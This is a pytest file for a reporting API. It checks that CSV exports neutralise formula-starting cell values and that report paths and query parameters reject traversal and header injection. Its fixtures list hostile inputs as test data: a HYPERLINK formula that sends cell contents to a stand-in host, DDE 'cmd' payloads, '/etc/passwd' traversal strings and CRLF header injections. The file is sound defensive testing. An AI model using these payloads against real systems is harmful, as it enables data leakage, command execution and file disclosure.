"""Names that somebody else chose do nothing in a report, and no path leads out of the reports."""

import csv
import io
import re
from dataclasses import replace
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import httpx2
import orjson
import pytest
from starlette.applications import Starlette

from db.customers import PostgresCustomerStore
from db.pool import Database
from planner.customers import Customer
from planner.ids import CatalogId
from tests.formats.reports.customer_reports import importing
from tests.planner.builders import customer, subscription
from tests.schema.api import BUSINESS_BASIC, Api, new_partner
from tests.schema.conftest import principal_of

FORMULAS = (
    '=HYPERLINK("http://x.example?"&A1,"see")',
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    "=1+1;=2+2",
    "\n=1+1",
)
REPORTS = ("options", "blockers", "portfolio")
TRAVERSALS = (
    "../settings",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "paths/../../graphql/../../etc/passwd",
    "paths%00.csv",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "paths/manifest/../../../etc/passwd",
    "portfolio\r\nx-injected: 1",
)


@pytest.fixture
async def named(app: Starlette, api_database: Database) -> Api:
    """Give a partner whose customers and subscriptions have such names."""
    api = new_partner(app)
    store = PostgresCustomerStore(api_database)
    await store.ensure_partner(principal_of(api), name="hostile")
    customers = [_customer(number, name) for number, name in enumerate(FORMULAS)]
    await store.store(principal_of(api), importing(*customers))
    return api


def _customer(number: int, name: str) -> Customer:
    """Return a customer of such a name, whose subscription is called so too."""
    held = replace(
        subscription("A", number=number), catalog_id=CatalogId(BUSINESS_BASIC), title=name
    )
    return replace(customer(held), customer_id=str(uuid4()), name=name)


async def _get(api: Api, path: str, **query: Any) -> httpx2.Response:
    async with api.client() as client:
        return await client.get(path, params=query)


@pytest.mark.parametrize("report", REPORTS)
async def test_no_cell_of_a_csv_begins_a_formula(named: Api, report: str) -> None:
    answer = await _get(named, f"/reports/{report}", format="csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    texts = {cell for row in rows[1:] for cell in row}
    assert not [cell for cell in texts if re.match(r"[=+@\t\r\n]|-(?!\d+(\.\d+)?$)", cell)]
    for name in FORMULAS:
        written = name if name.startswith('"') else "'" + name
        assert any(written in cell for cell in texts), name


@pytest.mark.parametrize("report", REPORTS)
async def test_ndjson_has_the_names_as_they_are(named: Api, report: str) -> None:
    answer = await _get(named, f"/reports/{report}", format="ndjson")
    lines = [orjson.loads(line) for line in answer.text.split("\n") if line]
    told = {value for line in lines for value in line.values() if isinstance(value, str)}
    assert set(FORMULAS) <= told


@pytest.mark.parametrize("report", REPORTS)
async def test_no_name_reaches_a_header(named: Api, report: str) -> None:
    answer = await _get(named, f"/reports/{report}", format="csv")
    attached = answer.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="offerpath-[a-z]+\.csv"', attached)


@pytest.mark.parametrize("name", TRAVERSALS)
async def test_a_path_out_of_the_reports_leads_nowhere(sample: Api, name: str) -> None:
    for path in (f"/reports/{name}", f"/reports/{quote(name, safe='')}"):
        async with sample.client() as client:
            try:
                answer = await client.get(path)
            except httpx2.InvalidURL:
                continue
        assert answer.status_code in (400, 404, 405), (path, answer.status_code)
        assert "root:" not in answer.text
        assert "x-injected" not in answer.headers


@pytest.mark.parametrize(
    "given", ["../../x", "csv/../../x", "csv\r\nx-injected: 1", "=1+1", "x" * 5_000]
)
@pytest.mark.parametrize("parameter", ["format", "market", "at", "shape", "out", "file"])
async def test_no_parameter_names_a_file(sample: Api, parameter: str, given: str) -> None:
    answer = await _get(sample, "/reports/paths", **{parameter: given})
    assert answer.status_code == 400, answer.text[:200]
    assert answer.json()["errors"][0]["extensions"]["code"]
    assert "x-injected" not in answer.headers
    assert len(answer.content) < 4 * 1024
